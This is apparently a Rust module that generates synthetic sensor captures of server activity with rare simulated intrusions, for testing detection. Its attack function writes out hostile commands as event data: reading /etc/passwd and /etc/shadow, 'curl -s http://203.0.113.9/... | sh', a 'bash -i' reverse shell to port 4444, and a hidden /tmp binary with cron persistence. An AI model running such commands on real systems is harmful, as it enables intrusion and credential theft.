//! What happens on the machine, in what proportion: of a hundred deeds 30 are strangers', 70 servers'; one in a thousand is
//! an attack.

use crate::machine::Machine;
use crate::programs::{program, shell};
use crate::servers::{PRODUCTS, Server};
use crate::strangers::Strangers;
use anyhow::Result;
use sensor::event::Descriptor;
use sensor_common::file::file_flags;
use sensor_common::record::Kind;
use std::path::Path;

const NEW: u32 = file_flags::WRITE | file_flags::CREATED;

/// Writes a capture of at least so many events.
pub fn write(capture: &Path, events: u64, servers: u32, seed: u64) -> Result<()> {
    let mut machine = Machine::new(capture, seed)?;
    let strangers = Strangers::new(&mut machine)?;
    let products = PRODUCTS.iter().cycle().take(servers as usize);
    let servers = products.map(|product| Server::start(&mut machine, product)).collect::<Result<Vec<Server>>>()?;
    while machine.written < events {
        let server = machine.random.usize(..servers.len().max(1));
        match (machine.random.u32(0..1000), servers.get(server)) {
            (0, Some(server)) => attack(&mut machine, server)?,
            (1..700, Some(server)) => server.act(&mut machine)?,
            _ => strangers.act(&mut machine)?,
        }
    }
    machine.end()
}

/// Somebody has got into a server.
fn attack(machine: &mut Machine, server: &Server) -> Result<()> {
    let (worker, number) = (server.worker, machine.random.u32(0..1000));
    match machine.random.u32(0..4) {
        0 => {
            let shell = machine.start(worker, shell("id; uname -a; cat /etc/passwd", 33))?;
            for command in ["id", "uname -a", "cat /etc/passwd"] {
                let name = command.split(' ').next().unwrap_or_default();
                machine.run(shell, program(&format!("/usr/bin/{name}"), command, 33))?;
            }
            machine.exit(shell)
        }
        1 => {
            let script = format!("/var/www/html/wp-content/uploads/2024/05/help{number}.php");
            machine.touch(worker, Kind::Open, &script, NEW)?;
            machine.touch(worker, Kind::Open, &script, file_flags::NOTED_WRITTEN)?;
            machine.run(worker, shell(&format!("curl -s http://203.0.113.9/{number} | sh"), 33))
        }
        2 => {
            let mut image = program("/usr/bin/bash", "bash -i", 33);
            let peer = Some(([203, 0, 113, 9].into(), 4444));
            image.standard = [Descriptor::Socket { inode: 77, family: 2, peer }; 3];
            let shell = machine.start(worker, image)?;
            machine.connect(shell, "203.0.113.9:4444")?;
            machine.touch(shell, Kind::Open, "/etc/shadow", file_flags::NOTED_SECRET)?;
            machine.exit(shell)
        }
        _ => {
            let file = format!("/tmp/.x{number}");
            machine.touch(worker, Kind::Open, &file, NEW)?;
            machine.run(worker, program(&file, &file, 33))?;
            machine.touch(worker, Kind::Open, "/etc/cron.d/update", NEW)
        }
    }
}
